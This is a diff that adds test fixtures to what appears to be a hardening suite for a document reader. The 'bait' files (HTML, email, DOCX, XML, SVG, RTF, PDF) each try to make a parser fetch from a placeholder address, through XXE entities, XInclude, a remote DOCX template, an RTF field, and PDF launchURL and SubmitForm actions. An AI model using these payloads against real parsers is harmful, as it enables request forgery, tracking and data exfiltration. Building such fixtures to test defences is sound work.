@@ -340,3 +340,61 @@ BOMBS: dict[str, Make] = {
     **PDFS,
     **TEXTS,
 }
+
+# Too slow for every run of the tests; `scripts/evaluate reading --only bombs` reads all of them.
+SLOW: frozenset[str] = frozenset()
+
+
+# --- bait: what would have a careless reader fetch something --------------------------------------
+
+THERE = "http://192.0.2.1/bait"  # an address that is never given out (RFC 5737)
+_PAGE = (
+    f'<html><head><link rel="stylesheet" href="{THERE}.css"><base href="{THERE}/">'
+    f'<script src="{THERE}.js"></script></head><body><p>A page.</p><img src="{THERE}.png">'
+    f'<iframe src="{THERE}.html"></iframe><object data="{THERE}.pdf"></object></body></html>'
+)
+_BAIT_PDF = (
+    f"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL('{THERE}'))>>"
+    f"/AA<</WC<</S/SubmitForm/F({THERE})>>>>>>"
+)
+
+
+def _remote_docx() -> bytes:
+    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    settings = (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<Relationship Id="rId1" Type="{kind}/attachedTemplate" Target="{THERE}.dotm" '
+        'TargetMode="External"/></Relationships>'
+    )
+    made = io.BytesIO(docx(_paragraph("A letter.")))
+    with zipfile.ZipFile(made, "a") as archive:
+        archive.writestr("word/_rels/settings.xml.rels", settings)
+        archive.writestr("word/settings.xml", f"<w:settings {_WORD}/>")
+        archive.writestr(
+            "word/_rels/document.xml.rels", settings.replace("attachedTemplate", "image")
+        )
+    return made.getvalue()
+
+
+BAIT: dict[str, Make] = {
+    "page.html": lambda: _utf8(_PAGE),
+    "letter.eml": lambda: _utf8(f"Subject: A\nContent-Type: text/html\n\n{_PAGE}"),
+    "notes.md": lambda: _utf8(f"# A\n\n![picture]({THERE}.png)\n\n{_PAGE}"),
+    "letter.docx": _remote_docx,
+    "schema.xml": lambda: _utf8(
+        f'<!DOCTYPE r SYSTEM "{THERE}.dtd" [<!ENTITY x SYSTEM "{THERE}.xml">'
+        f'<!ENTITY % y SYSTEM "{THERE}.ent"> %y;]><?xml-stylesheet href="{THERE}.xsl"?>'
+        f'<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{THERE}"/>&x; text</r>'
+    ),
+    "drawing.svg": lambda: _utf8(
+        f'<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="{THERE}.png"/>'
+        f"<text>Words</text></svg>"
+    ),
+    "fields.rtf": lambda: _utf8(
+        f"{{\\rtf1 Text {{\\field{{\\*\\fldinst INCLUDEPICTURE {THERE}.png}}}} more}}"
+    ),
+    "actions.pdf": lambda: PDFS["plain.pdf"]().replace(
+        b"<</Type/Catalog/Pages 2 0 R>>", _BAIT_PDF.encode()
+    ),
+    **{name: BOMBS[name] for name in ("outside.docx", "outside.xml", "outside.svg")},
+}
